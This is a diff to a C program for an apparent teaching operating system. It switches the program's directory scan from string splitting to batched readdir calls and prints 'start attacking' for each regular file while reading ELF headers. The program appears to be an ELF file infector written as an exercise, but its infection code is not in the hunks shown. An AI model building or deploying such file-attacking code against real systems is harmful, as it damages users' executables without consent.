@@ -1,6 +1,7 @@
 #include "myelf.h"
 #include "stdio.h"
 #include "string.h"
+#include "const.h"
 
 int strncmp(char* a, char* b, int n) {
     int i = 0;
@@ -29,33 +30,24 @@ void cal_addr(int entry, int addr[]) {
     }
 }
 
+#define NR_BATCH_ENTS 16
+
 int main() {
-    char files[500];
-    memset(files, 0, 500);
-    search_dir("/", files);  // 读当前目录
-    files[strlen(files)] = ' '; // 在最后加一个空格，方便分割字符串
-    // printf("the files are : %s\n", files);
-    int i = 0;
-    int last = 0;
+    struct dirent ents[NR_BATCH_ENTS];
+    int cursor = 0;
+    int n;
     char temp[200];
-    int count = 0;
     // ELF Header Table 结构体
     Elf32_Ehdr elf_ehdr;
     // Program Header Table 结构体
     Elf32_Shdr elf_shdr;
     Elf32_Sym elf_sym;
 
-    for (i = 0; i < strlen(files); i++) {
-        if (files[i] == ' '  && files[i - 1] != ' ' )  {
-            // printf("%d  ", i);
-            int j = last;
-            last = i + 1;  // 进行一个字符串分隔
-            if(i <= 1 ) continue;
-            for (; j < i; j++) {
-                temp[count++] = files[j];
-            }
-            
-            temp[count] = '\0';
+    while ((n = readdir(".", &cursor, ents, NR_BATCH_ENTS)) > 0) {  // 读当前目录
+        for (int k = 0; k < n; k++) {
+            if (ents[k].d_stat.st_mode != I_REGULAR)  // 只看普通文件
+                continue;
+            memcpy(temp, ents[k].d_name, sizeof(ents[k].d_name));
             printf("start attacking: %s\n", temp);
             
             // printf("start attacking: %s\n", temp);
@@ -195,7 +187,6 @@ int main() {
             else {
                 printf("skip dev or kernel.bin\n");
             }
-            count = 0;
         }
     }
     // __asm__ __volatile__("xchg %bx, %bx");